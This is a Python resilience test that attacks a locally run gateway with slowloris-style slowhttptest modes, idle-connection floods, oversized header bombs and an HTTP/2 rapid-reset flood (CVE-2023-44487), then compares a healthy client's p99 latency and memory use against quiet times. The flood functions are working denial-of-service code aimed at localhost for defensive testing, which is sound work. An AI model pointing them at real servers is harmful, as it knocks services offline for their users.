"""slow.py GATEWAY [SECONDS]: who sends slowly, opens much or resets rapidly costs bounded memory and nobody else.

Each attack runs for so long; meanwhile an ordinary client asks and its p99 is compared with that of quiet times.
"""

import contextlib
import socket
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor

import h2.config
import h2.connection
import h2.exceptions
from load import figure, latencies, p99
from stage import Gateway, Stage

SLOW = {
    "slow-headers": ["-H", "-i", "2"], "slow-body": ["-B", "-i", "2", "-s", "8192"], "ranges": ["-R", "-a", "10", "-b", "3000"],
    "slow-read": ["-X", "-w", "512", "-y", "1024", "-n", "5", "-z", "32", "-k", "3"],
}


def slowhttptest(gateway: Gateway, options: list[str], seconds: int) -> None:
    subprocess.run(
        ["slowhttptest", "-c", "1000", "-r", "500", "-l", str(seconds), "-u", f"http://127.0.0.1:{gateway.port}/large?100000", *options],
        capture_output=True, timeout=seconds + 60)


def floods(gateway: Gateway, seconds: int) -> None:
    """Connections that say nothing, from several addresses so that ports suffice."""
    end, held = time.monotonic() + seconds, []
    for number in range(5_000):
        connection = socket.socket()
        connection.bind((f"127.0.0.{2 + number % 8}", 0))
        with contextlib.suppress(OSError):
            connection.connect(("127.0.0.1", gateway.port))
        held.append(connection)
    time.sleep(max(0, end - time.monotonic()))
    for connection in held:
        connection.close()


def bombs(gateway: Gateway, seconds: int) -> None:
    """Heads as large as they get, over and over, and fields without end."""
    end = time.monotonic() + seconds
    head = b"GET / HTTP/1.1\r\nHost: a\r\n" + b"".join(b"X-%d: %s\r\n" % (number, b"a" * 300) for number in range(95)) + b"\r\n"
    while time.monotonic() < end:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", gateway.port), timeout=5) as connection:
            connection.sendall(head)
            connection.recv(4_096)
            connection.sendall(b"GET / HTTP/1.1\r\nHost: a\r\nX: " + b"a" * 1_000_000)
            connection.recv(4_096)


def rapid_resets(gateway: Gateway, seconds: int) -> None:
    """HTTP/2 streams opened and taken back at once (CVE-2023-44487), with a new connection whenever one is ended."""
    end = time.monotonic() + seconds
    fields = [(":method", "GET"), (":path", "/"), (":scheme", "http"), (":authority", "a")]
    while time.monotonic() < end:
        client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        client.initiate_connection()
        with contextlib.suppress(OSError, h2.exceptions.H2Error):
            with socket.create_connection(("127.0.0.1", gateway.port), timeout=5) as connection:
                while time.monotonic() < end:
                    for _ in range(50):
                        stream = client.get_next_available_stream_id()
                        client.send_headers(stream, fields, end_stream=True)
                        client.reset_stream(stream)
                    connection.sendall(client.data_to_send())


def main(program: str, seconds: int) -> int:
    with Stage() as stage:
        port = stage.quick_upstream()
        gateway = stage.gateway(
            program, f"routes:\n  - {{ upstream: \"127.0.0.1:{port}\", inspection: enforce }}\n", settings="  plain_http2: true")
        latencies(gateway.port, 200)
        quiet, before = p99(latencies(gateway.port, 400)), gateway.memory()
        print(f"quiet: p99 {quiet:.1f} ms, {before / 1e6:.0f} MB")
        attacks = {name: (lambda options=options: slowhttptest(gateway, options, seconds)) for name, options in SLOW.items()}
        attacks |= {"connections": lambda: floods(gateway, seconds), "header-bombs": lambda: bombs(gateway, seconds),
                    "rapid-reset": lambda: rapid_resets(gateway, seconds)}
        fine = []
        for name, attack in attacks.items():
            with ThreadPoolExecutor(1) as attacker:
                running = attacker.submit(attack)
                time.sleep(seconds / 3)
                taken, memory = latencies(gateway.port, 300), gateway.memory()
            # An attack that could not be made proves nothing: what stopped it is raised here.
            running.result()
            failed = sum(each == float("inf") for each in taken)
            fine.append(figure(f"{name}.healthy-failures", failed, "requests", 0))
            fine.append(figure(f"{name}.memory", (memory - before) / 1e6, "MB", 100))
            # Attacker, gateway and client share this machine's cores: the clock decides nothing here.
            figure(f"{name}.healthy-p99", p99(taken) / quiet, "x quiet", 2)
        if gateway.process.poll() is not None:
            print("the gateway ended")
            fine.append(False)
    return 0 if all(fine) else 1


if __name__ == "__main__":
    if len(sys.argv) < 2:
        sys.exit("usage: slow.py GATEWAY [SECONDS]")
    sys.exit(main(sys.argv[1], int(sys.argv[2]) if len(sys.argv) > 2 else 10))
